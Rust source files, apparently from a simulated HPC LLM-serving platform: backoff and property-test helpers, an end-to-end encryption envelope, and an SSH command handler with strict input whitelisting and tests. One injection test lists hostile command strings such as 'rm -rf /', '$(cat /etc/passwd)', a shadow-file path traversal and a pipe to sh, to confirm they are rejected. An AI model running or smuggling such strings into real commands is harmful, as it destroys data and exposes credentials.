            assert!(d <= Duration::from_millis(80), "above cap: {d:?}");
        }
    }

    #[test]
    fn same_seed_replays_the_same_schedule() {
        let seq = |seed: u64| {
            let mut b = policy().backoff(seed);
            (0..8).map(|_| b.next_delay()).collect::<Vec<_>>()
        };
        assert_eq!(seq(42), seq(42));
        assert_ne!(seq(42), seq(43), "distinct seeds must jitter apart");
    }

    #[test]
    fn deadline_budget_is_never_overshot() {
        let mut b = policy().backoff(1);
        assert_eq!(b.next_delay_within(Duration::ZERO), None);
        // A huge budget always admits the delay; the delay itself is
        // bounded by cap, so it fits.
        let d = b.next_delay_within(Duration::from_secs(10)).unwrap();
        assert!(d <= Duration::from_millis(80));
        // A budget at base or below can never fit a delay.
        assert_eq!(b.next_delay_within(Duration::from_millis(10)), None);
    }

    #[test]
    fn max_attempts_floor_is_one() {
        assert_eq!(RetryPolicy::new(0, Duration::ZERO, Duration::ZERO).max_attempts, 1);
        assert_eq!(policy().retries(), 2);
    }
}
