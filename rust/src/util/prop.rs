//! Tiny property-based testing driver (proptest is unavailable offline).
//!
//! `run_prop` executes a property over N random cases from a seeded [`Rng`]
//! and, on failure, re-runs a simple input-shrinking loop when the case type
//! supports it. Properties take the per-case RNG and return `Err(msg)` to
//! fail; the failing seed is printed so runs reproduce exactly.

use crate::util::rng::Rng;

/// Run `cases` random executions of `prop`. Each case gets a fresh `Rng`
/// derived from `seed` and the case index, so any failure is reproducible
/// from the printed pair.
pub fn run_prop(name: &str, seed: u64, cases: u32, mut prop: impl FnMut(&mut Rng) -> Result<(), String>) {
    for case in 0..cases {
        let case_seed = seed ^ (case as u64).wrapping_mul(0x9E3779B97F4A7C15);
        let mut rng = Rng::new(case_seed);
        if let Err(msg) = prop(&mut rng) {
            panic!("property '{name}' failed (seed={seed}, case={case}, case_seed={case_seed}): {msg}");
        }
    }
}

/// Assert helper for property bodies.
#[macro_export]
macro_rules! prop_assert {
    ($cond:expr, $($fmt:tt)*) => {
        if !$cond {
            return Err(format!($($fmt)*));
        }
    };
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn passing_property_runs_all_cases() {
        let mut n = 0;
        run_prop("count", 1, 25, |_rng| {
            n += 1;
            Ok(())
        });
        assert_eq!(n, 25);
    }

    #[test]
    #[should_panic(expected = "property 'fails'")]
    fn failing_property_panics_with_seed() {
        run_prop("fails", 2, 10, |rng| {
            let v = rng.below(100);
            if v >= 50 {
                Err(format!("v={v}"))
            } else {
                Ok(())
            }
        });
    }
}
