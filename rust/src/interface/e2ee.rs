//! §7.1.4 — end-to-end payload encryption ("future work" in the paper,
//! implemented here).
//!
//! Threat model: an attacker who compromises the web server (gateway / web
//! interface / HPC proxy) can man-in-the-middle plaintext prompts in
//! flight. Countermeasure: the client seals the request body so that it is
//! only decrypted *on the HPC platform*, inside the Cloud Interface — every
//! ESX-side component forwards opaque bytes. Replies are sealed with a
//! response key derived from the same session nonce, so the path back is
//! covered too.
//!
//! Envelope format (versioned):
//!
//! ```text
//! b"E2EE1" | nonce(16) | ciphertext | hmac-sha256 tag(32)
//! ```
//!
//! Key schedule: the platform publishes a key identity ([`KeyPair`] — the
//! simulated asymmetric identity used across sshsim, see DESIGN.md ledger);
//! request/response keys are derived per nonce with distinct labels, and
//! AES-128-CTR + HMAC (encrypt-then-MAC) seal the payload — the same
//! primitives as the SSH channel, reviewed once.

use crate::sshsim::KeyPair;

const MAGIC: &[u8; 5] = b"E2EE1";

/// Does a body carry the E2EE envelope?
pub fn is_sealed(body: &[u8]) -> bool {
    body.len() >= MAGIC.len() + 16 + 32 && body.starts_with(MAGIC)
}

fn session(platform: &KeyPair, nonce: &[u8; 16], label_nonce: u8) -> crate::sshsim::SessionCrypto {
    // Derive a directional session from (platform key, nonce, label): the
    // client "sends", the platform "receives" (is_client toggles roles).
    let mut server_nonce = [label_nonce; 16];
    server_nonce[..15].copy_from_slice(&nonce[..15]);
    platform.derive_session(nonce, &server_nonce, true)
}

fn open_session(platform: &KeyPair, nonce: &[u8; 16], label_nonce: u8) -> crate::sshsim::SessionCrypto {
    let mut server_nonce = [label_nonce; 16];
    server_nonce[..15].copy_from_slice(&nonce[..15]);
    // The opener takes the server role: its receive keys are the sealer's
    // send keys.
    platform.derive_session(nonce, &server_nonce, false)
}

fn seal_with(platform: &KeyPair, nonce: [u8; 16], label: u8, plaintext: &[u8]) -> Vec<u8> {
    let mut crypto = session(platform, &nonce, label);
    let sealed = crypto.seal(plaintext);
    let mut out = Vec::with_capacity(MAGIC.len() + 16 + sealed.len());
    out.extend_from_slice(MAGIC);
    out.extend_from_slice(&nonce);
    out.extend_from_slice(&sealed);
    out
}

fn open_with(platform: &KeyPair, label: u8, envelope: &[u8]) -> Result<Vec<u8>, String> {
    if !is_sealed(envelope) {
        return Err("not an E2EE envelope".into());
    }
    let mut nonce = [0u8; 16];
    nonce.copy_from_slice(&envelope[MAGIC.len()..MAGIC.len() + 16]);
    let mut crypto = open_session(platform, &nonce, label);
    crypto.open(&envelope[MAGIC.len() + 16..])
}

/// Extract the nonce from an envelope (the platform replies under it).
pub fn envelope_nonce(envelope: &[u8]) -> Option<[u8; 16]> {
    if !is_sealed(envelope) {
        return None;
    }
    let mut nonce = [0u8; 16];
    nonce.copy_from_slice(&envelope[MAGIC.len()..MAGIC.len() + 16]);
    Some(nonce)
}

// Labels separate the two directions.
const REQ: u8 = 0xA1;
const RESP: u8 = 0xB2;

/// Client side: seal a request body for the platform.
pub fn seal_request(platform: &KeyPair, nonce: [u8; 16], plaintext: &[u8]) -> Vec<u8> {
    seal_with(platform, nonce, REQ, plaintext)
}

/// Platform side: open a sealed request.
pub fn open_request(platform: &KeyPair, envelope: &[u8]) -> Result<Vec<u8>, String> {
    open_with(platform, REQ, envelope)
}

/// Platform side: seal a response under the request's nonce.
pub fn seal_response(platform: &KeyPair, nonce: [u8; 16], plaintext: &[u8]) -> Vec<u8> {
    seal_with(platform, nonce, RESP, plaintext)
}

/// Client side: open a sealed response.
pub fn open_response(platform: &KeyPair, envelope: &[u8]) -> Result<Vec<u8>, String> {
    open_with(platform, RESP, envelope)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn platform() -> KeyPair {
        KeyPair::generate(0x2EE)
    }

    #[test]
    fn request_roundtrip() {
        let p = platform();
        let sealed = seal_request(&p, [7u8; 16], b"{\"messages\":[...]}");
        assert!(is_sealed(&sealed));
        assert_eq!(open_request(&p, &sealed).unwrap(), b"{\"messages\":[...]}");
    }

    #[test]
    fn response_uses_distinct_key() {
        let p = platform();
        let nonce = [9u8; 16];
        let req = seal_request(&p, nonce, b"hello");
        // A response sealed under the same nonce cannot be opened as a
        // request (direction separation).
        let resp = seal_response(&p, nonce, b"world");
        assert!(open_request(&p, &resp).is_err());
        assert_eq!(open_response(&p, &resp).unwrap(), b"world");
        let _ = req;
    }

    #[test]
    fn ciphertext_hides_plaintext_and_tamper_detected() {
        let p = platform();
        let secret = b"SECRET-MEDICAL-DATA";
        let mut sealed = seal_request(&p, [3u8; 16], secret);
        // The envelope never contains the plaintext bytes.
        assert!(!sealed
            .windows(secret.len())
            .any(|w| w == secret));
        // Flipping any ciphertext bit fails the MAC.
        let n = sealed.len();
        sealed[n - 40] ^= 1;
        assert!(open_request(&p, &sealed).is_err());
    }

    #[test]
    fn wrong_platform_key_cannot_open() {
        let sealed = seal_request(&platform(), [1u8; 16], b"x");
        let other = KeyPair::generate(0xFFF);
        assert!(open_request(&other, &sealed).is_err());
    }

    #[test]
    fn non_envelope_rejected() {
        assert!(!is_sealed(b"{\"plain\":true}"));
        assert!(open_request(&platform(), b"short").is_err());
        assert!(envelope_nonce(b"E2EE1tooshort").is_none());
    }
}
