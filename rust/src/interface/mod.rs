//! The Cloud Interface Script (§5.5) — the single entrypoint ForceCommand
//! pins the web server's SSH key to.
//!
//! Every request from the HPC Proxy arrives here as `SSH_ORIGINAL_COMMAND`
//! plus a stdin body. Parsing is deliberately strict (§6.1.2): a fixed verb
//! whitelist, a service-name character whitelist, no shell, no `eval` —
//! anything outside the preset paths is rejected with a non-zero exit.
//!
//! Verbs:
//! - `tick`                       — keepalive: run the scheduler script once;
//! - `infer <service>`            — forward the stdin JSON body to a random
//!                                  ready instance, stream the response back;
//! - `probe <service>`            — health summary for a service;
//! - `models`                     — routing-table summary (the gateway's
//!                                  `/v1/models` aggregation).
//!
//! Reply framing over the SSH channel: the first line is `status: <code>`,
//! then a blank line, then the body (streamed chunk-by-chunk for SSE).

pub mod e2ee;

use std::sync::Arc;
use std::time::Duration;

use anyhow::Result;

use crate::scheduler::ServiceScheduler;
use crate::sshsim::CommandHandler;
use crate::util::clock::{Clock, WallClock};
use crate::util::http;
use crate::util::json::Json;
use crate::util::metrics::Registry;
use crate::util::rng::Rng;

/// Exit codes mirror shell conventions so the proxy can distinguish
/// transport-level failures from service-level ones.
pub const EXIT_OK: i32 = 0;
pub const EXIT_NO_INSTANCE: i32 = 3;
pub const EXIT_BAD_REQUEST: i32 = 2;

/// Load gap (in-flight requests) past the fleet minimum at which a
/// session abandons its affine home replica for the least-loaded one:
/// a hot prefix cache saves prefill, not a queue wait.
const AFFINITY_SPILL_MARGIN: i64 = 2;

pub struct CloudInterface {
    scheduler: Arc<ServiceScheduler>,
    metrics: Registry,
    rng: std::sync::Mutex<Rng>,
    /// §7.1.3 scale-to-zero: how long an `infer` waits for an instance to
    /// cold-start before giving up. The in-flight demand guard is held for
    /// the whole wait, which is exactly what drives the autoscaler from 0.
    queue_timeout: Duration,
    /// §7.1.4 E2EE: the platform key sealed request bodies are opened with.
    platform_key: Option<crate::sshsim::KeyPair>,
    /// Time source for arrival stamps, queue-wait deadlines, and the
    /// cold-start poll — a `SimClock` under the virtual-time harness.
    clock: Arc<dyn Clock>,
}

impl CloudInterface {
    /// Plain constructor. Configure with the `with_*` builders *before*
    /// wrapping in `Arc` (the old `Arc`-consuming builders fell back to
    /// `Arc::try_unwrap` rebuilds that silently reset the RNG state).
    pub fn new(scheduler: Arc<ServiceScheduler>, metrics: Registry) -> CloudInterface {
        CloudInterface {
            scheduler,
            metrics,
            rng: std::sync::Mutex::new(Rng::new(0xc1)),
            queue_timeout: Duration::from_secs(30),
            platform_key: None,
            clock: WallClock::new(),
        }
    }

    /// Builder: time source. Every timestamp the interface takes (arrival,
    /// queue-wait deadline, budget burn-down) reads this clock.
    pub fn with_clock(mut self, clock: Arc<dyn Clock>) -> CloudInterface {
        self.clock = clock;
        self
    }

    /// Builder: scale-to-zero queue wait (0 = fail fast, the paper's
    /// §5.6 behaviour).
    pub fn with_queue_timeout(mut self, timeout: Duration) -> CloudInterface {
        self.queue_timeout = timeout;
        self
    }

    /// Builder: enable E2EE with the platform key.
    pub fn with_platform_key(mut self, key: crate::sshsim::KeyPair) -> CloudInterface {
        self.platform_key = Some(key);
        self
    }

    /// Validate a service name: the injection chokepoint. Anything that is
    /// not `[a-z0-9._-]` is rejected before it can influence routing.
    fn valid_service(name: &str) -> bool {
        !name.is_empty()
            && name.len() <= 64
            && name
                .bytes()
                .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || matches!(b, b'.' | b'_' | b'-'))
    }

    fn reply_status(out: &mut dyn FnMut(&[u8]) -> Result<()>, code: u16) -> Result<()> {
        // Rendered on the stack: this line fronts every reply, including the
        // streaming hot path, so it must not take a `format!` heap round-trip.
        let mut buf = [0u8; 15]; // "status: " + up to 5 digits + "\n\n"
        buf[..8].copy_from_slice(b"status: ");
        let mut digits = [0u8; 5];
        let mut i = digits.len();
        let mut n = code;
        loop {
            i -= 1;
            digits[i] = b'0' + (n % 10) as u8;
            n /= 10;
            if n == 0 {
                break;
            }
        }
        let ndig = digits.len() - i;
        buf[8..8 + ndig].copy_from_slice(&digits[i..]);
        buf[8 + ndig] = b'\n';
        buf[9 + ndig] = b'\n';
        out(&buf[..10 + ndig])
    }

    fn handle_tick(&self, out: &mut dyn FnMut(&[u8]) -> Result<()>) -> i32 {
        let report = self.scheduler.run_once();
        let body = Json::obj()
            .set("skipped_locked", report.skipped_locked)
            .set("submitted", report.submitted.len())
            .set("became_ready", report.became_ready.len());
        let _ = Self::reply_status(out, 200);
        let _ = out(body.dump().as_bytes());
        EXIT_OK
    }

    fn handle_models(&self, out: &mut dyn FnMut(&[u8]) -> Result<()>) -> i32 {
        // Iterate the configured specs, not the routing table: a group
        // scaled to zero has no instances but is still addressable (the
        // first request wakes it), so it must appear in the listing.
        let mut list = Vec::new();
        for spec in self.scheduler.services() {
            let status = crate::gateway::ModelStatus {
                ready: self.scheduler.routing.ready_instances(&spec.name).len(),
                total: self.scheduler.routing.instances(&spec.name).len(),
                scale_from_zero: spec.min_instances == 0,
            };
            list.push(
                Json::obj()
                    .set("id", spec.name.as_str())
                    .set("state", status.state())
                    .set("ready", status.ready)
                    .set("total", status.total)
                    .set("scale_from_zero", status.scale_from_zero),
            );
        }
        let _ = Self::reply_status(out, 200);
        let _ = out(Json::obj().set("object", "list").set("data", list).dump().as_bytes());
        EXIT_OK
    }

    fn handle_probe(&self, service: &str, out: &mut dyn FnMut(&[u8]) -> Result<()>) -> i32 {
        // Like the paper's Table 1 "Probe GPU node" stage: pick a ready
        // instance and actually HTTP-probe its health endpoint on the
        // compute node, so the reply proves end-to-end reachability.
        let ready = self.scheduler.routing.ready_instances(service);
        let healthy = ready.first().map(|inst| {
            http::request_timeout(
                "GET",
                &format!("http://{}/health", inst.addr),
                &[],
                &[],
                std::time::Duration::from_millis(500),
            )
            .map(|r| r.status == 200)
            .unwrap_or(false)
        });
        let ok = healthy == Some(true);
        let body = Json::obj()
            .set("service", service)
            .set("ready_instances", ready.len())
            .set("status", if ok { "ok" } else { "unavailable" });
        let _ = Self::reply_status(out, if ok { 200 } else { 503 });
        let _ = out(body.dump().as_bytes());
        if ok {
            EXIT_OK
        } else {
            EXIT_NO_INSTANCE
        }
    }

    fn handle_infer(
        &self,
        service: &str,
        stdin: &[u8],
        out: &mut dyn FnMut(&[u8]) -> Result<()>,
    ) -> i32 {
        // Demand tracking for the autoscaler: in-flight from the moment the
        // request arrives — held across the cold-start wait, so queued
        // requests are what pull a scaled-to-zero service back up (§7.1.3).
        let _guard = self.scheduler.demand.begin(service);
        self.metrics.counter("ci_infer_total", &[("service", service)]).inc();

        // §7.1.4: sealed bodies are opened HERE, on the HPC platform; no
        // ESX-side component ever saw the plaintext.
        let mut e2ee_nonce: Option<[u8; 16]> = None;
        let opened;
        let stdin: &[u8] = if e2ee::is_sealed(stdin) {
            let Some(key) = &self.platform_key else {
                let _ = Self::reply_status(out, 400);
                let _ = out(Json::obj().set("error", "E2EE not enabled").dump().as_bytes());
                return EXIT_BAD_REQUEST;
            };
            match e2ee::open_request(key, stdin) {
                Ok(plain) => {
                    e2ee_nonce = e2ee::envelope_nonce(stdin);
                    self.metrics.counter("ci_e2ee_total", &[("service", service)]).inc();
                    opened = plain;
                    &opened
                }
                Err(e) => {
                    let _ = Self::reply_status(out, 400);
                    let _ = out(Json::obj().set("error", format!("E2EE: {e}")).dump().as_bytes());
                    return EXIT_BAD_REQUEST;
                }
            }
        } else {
            stdin
        };

        // Parse the (by now plaintext) body once: the streaming flag and
        // the request's deadline budget (DESIGN.md §Request lifecycle).
        let arrived_us = self.clock.now_us();
        let parsed = Json::parse(std::str::from_utf8(stdin).unwrap_or("")).ok();
        let budget_ms = parsed.as_ref().map_or(0, |j| j.u64_or("deadline_ms", 0));
        // Conversation id for cache-affine routing: a multi-turn chat that
        // keeps landing on the same replica re-prefills nothing but its
        // newest turn (the prefix cache holds the rest).
        let session = parsed
            .as_ref()
            .and_then(|j| j.get("session").and_then(|s| s.as_str().map(String::from)));

        // Session-affine placement when the body names a conversation,
        // least-loaded with random tie-break otherwise (§5.6's random
        // balancing as the degenerate case) — waiting out a cold start up
        // to queue_timeout (§7.1.3 scale-to-zero queueing), but never past
        // the request's own deadline budget: a request that can no longer
        // be answered in time must not keep waiting.
        let max_wait = match budget_ms {
            0 => self.queue_timeout,
            ms => self.queue_timeout.min(Duration::from_millis(ms)),
        };
        let deadline_us = arrived_us + max_wait.as_micros() as u64;
        // One registry lookup for the whole wait: each `gauge()` call renders
        // a label key and takes the registry lock, which the 20 ms poll loop
        // would otherwise repeat dozens of times per cold start.
        let queued_gauge = self.metrics.gauge("ci_queued_requests", &[("service", service)]);
        let inst = loop {
            let picked = {
                let mut rng = self.rng.lock().unwrap();
                match session.as_deref() {
                    Some(sess) => self.scheduler.routing.pick_affine(
                        service,
                        sess,
                        AFFINITY_SPILL_MARGIN,
                        &mut rng,
                    ),
                    None => self
                        .scheduler
                        .routing
                        .pick_least_loaded(service, &mut rng)
                        .map(|i| (i, false)),
                }
            };
            match picked {
                Some((i, affine_hit)) => {
                    if affine_hit {
                        self.metrics
                            .counter("sched_affinity_hits_total", &[("service", service)])
                            .inc();
                    }
                    break Some(i);
                }
                None if self.clock.now_us() < deadline_us => {
                    queued_gauge.add(1);
                    self.clock.sleep(Duration::from_millis(20));
                    queued_gauge.add(-1);
                }
                None => break None,
            }
        };
        let Some(inst) = inst else {
            let out_of_time = budget_ms > 0
                && self.clock.now_us().saturating_sub(arrived_us) >= budget_ms.saturating_mul(1000);
            let (status, msg) = if out_of_time {
                self.metrics.counter("ci_deadline_total", &[("service", service)]).inc();
                (504, format!("deadline exceeded while queued for {service}"))
            } else {
                (503, format!("no ready instance for {service}"))
            };
            let _ = Self::reply_status(out, status);
            let _ = out(Json::obj().set("error", msg).dump().as_bytes());
            return EXIT_NO_INSTANCE;
        };
        // Pin the in-flight count to the chosen instance for the request's
        // lifetime so concurrent placements see its true load.
        let _inst_guard = self.scheduler.routing.begin_request(inst.job_id);

        // Burn transit + queue wait off the forwarded budget (gRPC-style
        // deadline propagation): the instance re-anchors what remains, so
        // a cold-start wait can never silently extend a client's deadline.
        let rewritten;
        let stdin: &[u8] = match &parsed {
            Some(j) if budget_ms > 0 => {
                let spent = self.clock.now_us().saturating_sub(arrived_us) / 1000;
                let remaining = budget_ms.saturating_sub(spent).max(1);
                rewritten = j.clone().set("deadline_ms", remaining).dump().into_bytes();
                &rewritten
            }
            _ => stdin,
        };

        let url = format!("http://{}/v1/chat/completions", inst.addr);
        let is_stream = parsed.as_ref().map_or(false, |j| j.bool_or("stream", false))
            // Streaming replies are not sealed (chunk-level E2EE is future
            // work even here); sealed requests get buffered replies.
            && e2ee_nonce.is_none();

        if is_stream {
            let mut sent_status = false;
            // `out` fails once the SSH channel is closed by the client
            // side (CHANNEL_CLOSE); returning false then drops the HTTP
            // connection to the instance, whose api layer drops the
            // `Generation`, which frees the engine batch slot — the full
            // disconnect cascade (DESIGN.md §Request lifecycle). Frames the
            // instance already delivered are drained per wake-up into one
            // SSH channel write instead of a write per token frame.
            let result = http::request_stream_coalesced(
                "POST",
                &url,
                &[("content-type", "application/json")],
                stdin,
                |status, batch| {
                    if !sent_status {
                        sent_status = true;
                        if Self::reply_status(out, status).is_err() {
                            return false;
                        }
                    }
                    out(batch).is_ok()
                },
            );
            match result {
                Ok((status, aborted, saved)) => {
                    self.metrics
                        .counter("ci_sse_frames_coalesced_total", &[("service", service)])
                        .add(saved);
                    if aborted {
                        self.metrics
                            .counter("ci_cancelled_total", &[("service", service)])
                            .inc();
                    } else if !sent_status {
                        // Body-less upstream reply (the callback never
                        // fired): forward the real status, not a blanket
                        // 200 — an instance error must not read as success.
                        let _ = Self::reply_status(out, status);
                    }
                    EXIT_OK
                }
                Err(e) => {
                    if !sent_status {
                        let _ = Self::reply_status(out, 502);
                        let _ = out(Json::obj().set("error", e.to_string()).dump().as_bytes());
                    }
                    EXIT_NO_INSTANCE
                }
            }
        } else {
            match http::pooled_request("POST", &url, &[("content-type", "application/json")], stdin) {
                Ok(resp) => {
                    let _ = Self::reply_status(out, resp.status);
                    match (&self.platform_key, e2ee_nonce) {
                        (Some(key), Some(nonce)) => {
                            let _ = out(&e2ee::seal_response(key, nonce, &resp.body));
                        }
                        _ => {
                            // Prefix-cache accounting rides the usage block
                            // (plaintext replies only; sealed bodies are
                            // opaque by design).
                            if resp.status == 200 {
                                if let Ok(j) = Json::parse(resp.body_str()) {
                                    let cached = j
                                        .at(&["usage", "cached_tokens"])
                                        .and_then(|c| c.as_u64())
                                        .unwrap_or(0);
                                    if cached > 0 {
                                        self.metrics
                                            .counter(
                                                "ci_prefix_hit_tokens_total",
                                                &[("service", service)],
                                            )
                                            .add(cached);
                                    }
                                }
                            }
                            let _ = out(&resp.body);
                        }
                    }
                    EXIT_OK
                }
                Err(e) => {
                    let _ = Self::reply_status(out, 502);
                    let _ = out(Json::obj().set("error", e.to_string()).dump().as_bytes());
                    EXIT_NO_INSTANCE
                }
            }
        }
    }
}

impl CommandHandler for CloudInterface {
    fn exec(
        &self,
        _command: &str,
        original_command: &str,
        stdin: &[u8],
        out: &mut dyn FnMut(&[u8]) -> Result<()>,
    ) -> i32 {
        // Strict tokenization: whitespace split only, fixed arity, no shell
        // interpretation of any kind.
        let tokens: Vec<&str> = original_command.split_whitespace().collect();
        match tokens.as_slice() {
            ["tick"] => self.handle_tick(out),
            ["models"] => self.handle_models(out),
            ["probe", service] if Self::valid_service(service) => {
                self.handle_probe(service, out)
            }
            ["infer", service] if Self::valid_service(service) => {
                self.handle_infer(service, stdin, out)
            }
            _ => {
                self.metrics.counter("ci_rejected_total", &[]).inc();
                let _ = Self::reply_status(out, 400);
                let _ = out(
                    Json::obj()
                        .set("error", "request does not match any permitted path")
                        .dump()
                        .as_bytes(),
                );
                EXIT_BAD_REQUEST
            }
        }
    }
}

/// Parse the `status: <code>\n\n<body>` reply framing.
pub fn parse_reply(raw: &[u8]) -> (u16, Vec<u8>) {
    let text_prefix = &raw[..raw.len().min(64)];
    let s = String::from_utf8_lossy(text_prefix);
    if let Some(rest) = s.strip_prefix("status: ") {
        if let Some(nl) = rest.find('\n') {
            if let Ok(code) = rest[..nl].trim().parse::<u16>() {
                let header_len = "status: ".len() + nl + 1;
                let body_start = if raw.get(header_len) == Some(&b'\n') {
                    header_len + 1
                } else {
                    header_len
                };
                return (code, raw[body_start..].to_vec());
            }
        }
    }
    (200, raw.to_vec())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::scheduler::{
        BackendKind, MockLauncher, SchedulerConfig, ServiceScheduler, ServiceSpec,
    };
    use crate::slurm::{ClusterSpec, SlurmSim};
    use crate::util::clock::SimClock;
    use std::sync::Mutex;
    use std::time::Duration;

    fn collect_out() -> (Vec<u8>, impl FnMut(&[u8]) -> Result<()>) {
        (Vec::new(), |_c: &[u8]| Ok(()))
    }

    fn make(scheduler_services: Vec<ServiceSpec>) -> (CloudInterface, Arc<ServiceScheduler>) {
        let slurm = Arc::new(Mutex::new(SlurmSim::new(ClusterSpec::kisski())));
        let sched = Arc::new(ServiceScheduler::new(
            slurm,
            SimClock::new(),
            MockLauncher::new(),
            scheduler_services,
            SchedulerConfig::default(),
            Registry::new(),
        ));
        let ci = CloudInterface::new(sched.clone(), Registry::new())
            .with_queue_timeout(std::time::Duration::ZERO);
        (ci, sched)
    }

    fn run(ci: &CloudInterface, cmd: &str, stdin: &[u8]) -> (i32, Vec<u8>) {
        let mut buf = Vec::new();
        let mut out = |c: &[u8]| {
            buf.extend_from_slice(c);
            Ok(())
        };
        let code = ci.exec("/opt/saia/cloud_interface", cmd, stdin, &mut out);
        (code, buf)
    }

    fn svc(name: &str) -> ServiceSpec {
        ServiceSpec {
            name: name.into(),
            min_instances: 1,
            max_instances: 2,
            target_concurrency: 4.0,
            gpus: 1,
            cpus: 4,
            mem_gb: 16,
            walltime: Duration::from_secs(3600),
            max_scavengers: 0,
            keep_alive: Duration::ZERO,
            backend: BackendKind::Sim { profile: "intel-neural-7b".into(), time_scale: 0.0 },
        }
    }

    #[test]
    fn injection_attempts_rejected() {
        let (ci, _) = make(vec![]);
        for evil in [
            "infer m; rm -rf /",
            "infer $(cat /etc/passwd)",
            "infer ../../../etc/shadow",
            "eval ls",
            "infer m extra-arg",
            "probe M|sh",
            "tick; reboot",
            "",
            "infer",
        ] {
            let (code, out) = run(&ci, evil, b"{}");
            assert_eq!(code, EXIT_BAD_REQUEST, "accepted: {evil:?}");
            let (status, _) = parse_reply(&out);
            assert_eq!(status, 400, "evil={evil:?}");
        }
        // Path-traversal-free, lowercase service names pass validation.
        assert!(CloudInterface::valid_service("llama3-70b"));
        assert!(CloudInterface::valid_service("qwen1.5-72b"));
        assert!(!CloudInterface::valid_service("Llama"));
        assert!(!CloudInterface::valid_service("a/b"));
        assert!(!CloudInterface::valid_service(&"x".repeat(65)));
    }

    #[test]
    fn tick_runs_scheduler() {
        let (ci, sched) = make(vec![svc("m")]);
        let (code, out) = run(&ci, "tick", b"");
        assert_eq!(code, EXIT_OK);
        let (status, body) = parse_reply(&out);
        assert_eq!(status, 200);
        let j = Json::parse(std::str::from_utf8(&body).unwrap()).unwrap();
        assert_eq!(j.u64_or("submitted", 99), 1, "min_instances=1 submitted");
        assert_eq!(sched.routing.instances("m").len(), 1);
    }

    #[test]
    fn probe_reports_unavailable_then_ok() {
        let (ci, sched) = make(vec![svc("m")]);
        let (code, out) = run(&ci, "probe m", b"");
        assert_eq!(code, EXIT_NO_INSTANCE);
        assert_eq!(parse_reply(&out).0, 503);
        // A ready instance with a live /health endpoint flips the probe.
        let health = crate::util::http::Server::start(Arc::new(|_req: &_| {
            crate::util::http::Reply::full(crate::util::http::Response::text(200, "ok"))
        }))
        .unwrap();
        sched.routing.upsert(crate::scheduler::Instance {
            job_id: 1,
            service: "m".into(),
            node: "n".into(),
            port: health.addr.port(),
            addr: health.addr.to_string(),
            ready: true,
            draining: false,
            scavenger: false,
            started_us: 0,
        });
        let (code, out) = run(&ci, "probe m", b"");
        assert_eq!(code, EXIT_OK);
        assert_eq!(parse_reply(&out).0, 200);
    }

    #[test]
    fn infer_without_instances_is_503() {
        let (ci, _) = make(vec![svc("m")]);
        let (code, out) = run(&ci, "infer m", b"{\"messages\":[]}");
        assert_eq!(code, EXIT_NO_INSTANCE);
        assert_eq!(parse_reply(&out).0, 503);
    }

    #[test]
    fn infer_forwards_to_real_instance() {
        // Boot a real LLM HTTP server and point the routing table at it.
        let engine = crate::llmserver::Engine::start(
            Box::new(crate::llmserver::SimBackend::by_name("intel-neural-7b", 0.0).unwrap()),
            crate::llmserver::EngineConfig::default(),
            Registry::new(),
        );
        let server = crate::llmserver::LlmHttpServer::start(engine).unwrap();
        let (ci, sched) = make(vec![svc("intel-neural-7b")]);
        sched.routing.upsert(crate::scheduler::Instance {
            job_id: 1,
            service: "intel-neural-7b".into(),
            node: "n".into(),
            port: server.server.addr.port(),
            addr: server.server.addr.to_string(),
            ready: true,
            draining: false,
            scavenger: false,
            started_us: 0,
        });
        let body = Json::obj()
            .set(
                "messages",
                vec![Json::obj().set("role", "user").set("content", "count")],
            )
            .dump();
        let (code, out) = run(&ci, "infer intel-neural-7b", body.as_bytes());
        assert_eq!(code, EXIT_OK);
        let (status, body) = parse_reply(&out);
        assert_eq!(status, 200);
        let j = Json::parse(std::str::from_utf8(&body).unwrap()).unwrap();
        assert_eq!(
            j.at(&["choices", "0", "message", "content"]).unwrap().as_str().unwrap(),
            "1 2 3 4 5 6 7 8 9 10"
        );
    }

    #[test]
    fn models_lists_routing_table() {
        let (ci, sched) = make(vec![svc("m")]);
        sched.run_once();
        let (code, out) = run(&ci, "models", b"");
        assert_eq!(code, EXIT_OK);
        let j = Json::parse(std::str::from_utf8(&parse_reply(&out).1).unwrap()).unwrap();
        assert_eq!(j.at(&["data", "0", "id"]).unwrap().as_str().unwrap(), "m");
    }

    #[test]
    fn reply_status_renders_all_code_widths() {
        // The stack renderer must stay byte-identical to the old
        // `format!("status: {code}\n\n")` framing for every code width.
        for code in [0u16, 7, 42, 200, 404, 503, 999, 1000, 65535] {
            let mut buf = Vec::new();
            let mut out = |c: &[u8]| {
                buf.extend_from_slice(c);
                Ok(())
            };
            CloudInterface::reply_status(&mut out, code).unwrap();
            assert_eq!(buf, format!("status: {code}\n\n").into_bytes(), "code={code}");
        }
    }

    #[test]
    fn parse_reply_framing() {
        let (code, body) = parse_reply(b"status: 503\n\n{\"error\":\"x\"}");
        assert_eq!(code, 503);
        assert_eq!(body, b"{\"error\":\"x\"}");
        let (code, body) = parse_reply(b"raw body no header");
        assert_eq!(code, 200);
        assert_eq!(body, b"raw body no header");
    }

    #[test]
    fn infer_queues_through_a_cold_start() {
        // §7.1.3: with a queue timeout, a request arriving while the model
        // is still loading waits and then succeeds.
        let engine = crate::llmserver::Engine::start(
            Box::new(crate::llmserver::SimBackend::by_name("intel-neural-7b", 0.0).unwrap()),
            crate::llmserver::EngineConfig::default(),
            Registry::new(),
        );
        let server = crate::llmserver::LlmHttpServer::start(engine).unwrap();
        let (ci, sched) = make(vec![svc("intel-neural-7b")]);
        let ci = ci.with_queue_timeout(std::time::Duration::from_secs(5));

        // The instance becomes ready 150 ms into the wait.
        let sched2 = sched.clone();
        let port = server.server.addr.port();
        let addr = server.server.addr.to_string();
        std::thread::spawn(move || {
            std::thread::sleep(std::time::Duration::from_millis(150));
            sched2.routing.upsert(crate::scheduler::Instance {
                job_id: 9,
                service: "intel-neural-7b".into(),
                node: "n".into(),
                port,
                addr,
                ready: true,
                draining: false,
                scavenger: false,
                started_us: 0,
            });
        });
        let body = Json::obj()
            .set("messages", vec![Json::obj().set("role", "user").set("content", "x")])
            .dump();
        let t = std::time::Instant::now();
        let (code, out) = run(&ci, "infer intel-neural-7b", body.as_bytes());
        assert_eq!(code, EXIT_OK, "{:?}", String::from_utf8_lossy(&out));
        assert!(t.elapsed() >= std::time::Duration::from_millis(140), "did not wait");
        assert_eq!(parse_reply(&out).0, 200);
    }

    #[test]
